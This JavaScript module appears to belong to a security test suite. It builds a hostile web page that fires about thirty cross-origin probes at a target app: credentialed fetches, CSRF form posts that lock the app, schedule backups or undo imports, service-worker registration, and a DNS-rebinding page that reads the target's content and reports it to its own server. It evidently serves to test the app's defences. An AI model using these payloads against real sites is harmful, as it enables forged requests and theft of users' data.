// The pages of the hostile site. What stands here runs in its pages, not in node.
import { MARK } from "./rows.mjs";

/** Runs inside the hostile page: tries everything against one address, and says what it noticed. */
function attacks(target, spent, mark) {
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const within = (promise) => Promise.race([promise, wait(1500).then(() => "silence")]);
  const load = (tag, name, path, more = {}) =>
    within(
      new Promise((resolve) => {
        const node = Object.assign(document.createElement(tag), more);
        node.onload = node.onloadeddata = () => resolve("loaded");
        node.onerror = () => resolve("error");
        node[name] = target + path;
        document.body.append(node);
      }),
    );
  const get = (path, options) =>
    within(
      fetch(target + path, { credentials: "include", ...options }).then(
        async (answer) => ((await answer.text().catch(() => "")).length > 0 ? "read" : answer.type),
        () => "error",
      ),
    );
  const form = `key=${"a".repeat(32)}&words=${mark}&at=2025-02-03`;
  const kinds = { "Content-Type": "application/x-www-form-urlencoded" };
  const send = (path, fields, method = "post") =>
    within(
      new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.name = `f${Math.random()}`;
        document.body.append(frame);
        const node = document.createElement("form");
        Object.assign(node, { method, action: target + path, target: frame.name });
        for (const [name, value] of Object.entries(fields)) {
          node.append(Object.assign(document.createElement("input"), { name, value }));
        }
        document.body.append(node);
        frame.onload = () => {
          try {
            resolve(frame.contentDocument?.body?.textContent ? "read" : "sent");
          } catch {
            resolve("sent");
          }
        };
        node.submit();
      }),
    );
  const framed = (tag, name, path) =>
    within(
      new Promise((resolve) => {
        const node = document.createElement(tag);
        node.onload = () => {
          try {
            resolve(node.contentDocument?.body?.textContent ? "read" : "opaque");
          } catch {
            resolve("opaque");
          }
        };
        node.onerror = () => resolve("error");
        node[name] = target + path;
        document.body.append(node);
      }),
    );
  const socket = () =>
    within(
      new Promise((resolve) => {
        const one = new WebSocket(`${target.replace("http", "ws")}/`);
        one.onopen = () => resolve("open");
        one.onerror = () => resolve("error");
      }),
    );
  const stream = () =>
    within(
      new Promise((resolve) => {
        const one = new EventSource(`${target}/`, { withCredentials: true });
        one.onopen = () => resolve("open");
        one.onerror = () => {
          one.close();
          resolve("error");
        };
      }),
    );
  const xhr = () =>
    within(
      new Promise((resolve) => {
        const one = new XMLHttpRequest();
        one.open("GET", `${target}/day`);
        one.withCredentials = true;
        one.onload = () => resolve("read");
        one.onerror = () => resolve("error");
        one.send();
      }),
    );
  const said = (promise, word) => within(promise.then(() => word, () => "error"));
  return [
    ["fetch cors", () => get("/", { mode: "cors" })],
    ["fetch no-cors", () => get("/", { mode: "no-cors" })],
    ["fetch no-cors of the script", () => get("/script.js", { mode: "no-cors" })],
    ["fetch post of a form", () =>
      get("/day/note", { mode: "no-cors", method: "POST", body: form, headers: kinds })],
    ["fetch post of json", () =>
      get("/day/note", {
        mode: "cors",
        method: "POST",
        body: "{}",
        headers: { "Content-Type": "application/json" },
      })],
    ["fetch put", () => get("/day/note", { mode: "cors", method: "PUT", body: form })],
    ["fetch delete", () => get("/day/note", { mode: "cors", method: "DELETE" })],
    ["xhr", xhr],
    ["beacon", async () =>
      navigator.sendBeacon(`${target}/day/note`, new URLSearchParams(form)) ? "sent" : "error"],
    ["image", () => load("img", "src", "/icon.svg")],
    ["script", () => load("script", "src", "/script.js")],
    ["module", () => said(import(`${target}/script.js`), "loaded")],
    ["style", () => load("link", "href", "/style.css", { rel: "stylesheet" })],
    ["prefetch", () => load("link", "href", "/", { rel: "prefetch" })],
    ["preload", () => load("link", "href", "/script.js", { rel: "preload", as: "script" })],
    ["video", () => load("video", "src", "/icon.svg")],
    ["font", () => said(new FontFace("x", `url(${target}/style.css)`).load(), "loaded")],
    ["worker", async () => {
      try {
        new Worker(`${target}/script.js`);
        return "loaded";
      } catch {
        return "error";
      }
    }],
    ["service worker", async () =>
      navigator.serviceWorker
        ? said(navigator.serviceWorker.register(`${target}/script.js`), "loaded")
        : "error"],
    ["frame", () => framed("iframe", "src", "/")],
    ["frame of the help page", () => framed("iframe", "src", "/help")],
    ["object", () => framed("object", "data", "/")],
    ["web socket", socket],
    ["event stream", stream],
    ["spent link by fetch", () => get(spent, { mode: "no-cors" })],
    ["spent link in a frame", () => framed("iframe", "src", spent)],
    ["form: a note", () => send("/day/note", Object.fromEntries(new URLSearchParams(form)))],
    ["form: lock", () => send("/lock", {})],
    ["form: leave", () => send("/exit", {})],
    ["form: a schedule of back-ups", () => send("/backup/schedule", { every: "day", folder: "/tmp" })],
    ["form: forget an import", () => send("/data/undo", { name: mark })],
    ["form by get", () => send("/day/note", { words: mark }, "get")],
  ];
}

/** The hostile page. It waits until the person is signed in, attacks, and reports to its own server. */
export function page(targets) {
  return `<!doctype html><title>news</title><body><script>
    const attacks = ${attacks};
    (async () => {
      while ((await (await fetch("/ready")).text()) !== "yes") await new Promise((r) => setTimeout(r, 200));
      for (const { name, origin, spent } of ${JSON.stringify(targets)}) {
        for (const [attack, run] of attacks(origin, spent, ${JSON.stringify(MARK)})) {
          await fetch("/begin?" + name + "/" + attack);
          const began = performance.now();
          let seen;
          try { seen = await run(); } catch (error) { seen = "error"; }
          const took = performance.now() - began;
          await fetch("/report", { method: "POST", body: JSON.stringify({ name, attack, seen, took }) });
        }
      }
      await fetch("/report", { method: "POST", body: JSON.stringify({ name: "end" }) });
      (${wander})();
    })();
  </script>`;
}

/** Runs inside a page of the hostile site: goes where its server sends it. */
export async function wander() {
  for (;;) {
    const address = await (await fetch("/next")).text();
    if (address) return location.replace(address);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/** A page on the same port and another name, which then loses its own server: DNS rebinding. */
export const REBOUND = `<!doctype html><title>news</title><body><script>
  (async () => {
    const home = HOME;
    while ((await (await fetch(home + "/gone")).text()) !== "yes") await new Promise((r) => setTimeout(r, 200));
    const seen = {};
    for (const path of ["/", "/day", "/help", "/style.css", "/icon.svg"]) {
      seen[path] = await fetch(path, { credentials: "include" }).then(
        async (answer) => answer.status + " " + (await answer.text()).length, () => "error");
    }
    seen.post = await fetch("/day/note", { method: "POST", body: new URLSearchParams("key=${"b".repeat(32)}&words=${MARK}&at=2025-02-03") })
      .then((answer) => answer.status + " 0", () => "error");
    await fetch(home + "/report", { method: "POST", body: JSON.stringify({ name: "rebound", seen }) });
  })();
</script>`;
